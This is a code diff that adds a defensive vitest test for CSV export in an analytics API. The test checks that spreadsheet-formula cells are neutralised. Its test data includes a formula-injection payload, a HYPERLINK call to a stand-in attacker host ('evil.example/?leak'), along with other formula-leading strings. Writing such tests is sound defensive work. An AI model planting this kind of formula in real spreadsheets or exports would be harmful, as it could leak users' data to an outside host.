@@ -3,6 +3,7 @@ import { tasks, usageEvents } from '@baton/db/schema';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { quantile } from '../src/analytics/histogram';
+import { csvCell } from '../src/router/analytics';
 import type { AuthSession } from '../src/trpc';
 import { callerFor, type Harness, makeTeam, makeUser, rejection, setupHarness } from './harness';
 
@@ -234,5 +235,53 @@ describe('team deletion', () => {
     expect(await count()).toBe(4);
     await h.client.db.execute(sql`delete from teams where id = ${gone}`);
     expect(await count()).toBe(0);
+  });
+});
+
+describe('CSV export', () => {
+  it('neutralises cells a spreadsheet would run as formulas (=HYPERLINK in a task title)', async () => {
+    const titles = [
+      '=HYPERLINK("http://evil.example/?leak","Click me")',
+      '+1+2',
+      '-3+4',
+      '@SUM(A1:A9)',
+      '\tTabbed',
+      'Plain title',
+    ];
+    for (const [i, title] of titles.entries()) {
+      const [t] = await h.client.db
+        .insert(tasks)
+        .values({ teamId: otherTeam, title, prompt: 'p', model: 'claude-sonnet-4-5' })
+        .returning();
+      await h.client.db.insert(usageEvents).values(
+        usage(900 + i, {
+          teamId: otherTeam,
+          taskId: t!.id,
+          costUsd: String(0.01 * (10 - i)),
+          createdAt: at(30 + i),
+        }),
+      );
+    }
+    const api = await callerFor(h, owner);
+    const { csv } = await api.analytics.csv({ teamId: otherTeam, ...range, dataset: 'topTasks' });
+    const lines = csv.split('\r\n');
+    expect(lines[0]).toBe('task_id,title,status,model,requests,tokens,cost_usd,first_at');
+    // Most expensive first: the titles in the order inserted, each cell as a spreadsheet must show it.
+    const titleCells = lines.slice(1).map((l) => l.split(',').slice(1, -6).join(','));
+    expect(titleCells).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?leak"",""Click me"")"`,
+      "'+1+2",
+      "'-3+4",
+      "'@SUM(A1:A9)",
+      "'\tTabbed",
+      'Plain title',
+    ]);
+    // Numbers stay numbers (a cost is never prefixed).
+    expect(lines[1]!.split(',').at(-2)).toBe('0.100000');
+    expect(csvCell('-0.5')).toBe('-0.5');
+    expect(csvCell(-2)).toBe('-2');
+    expect(csvCell('\rx')).toBe(`"'\rx"`);
+    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
+    expect(csvCell(null)).toBe('');
   });
 });
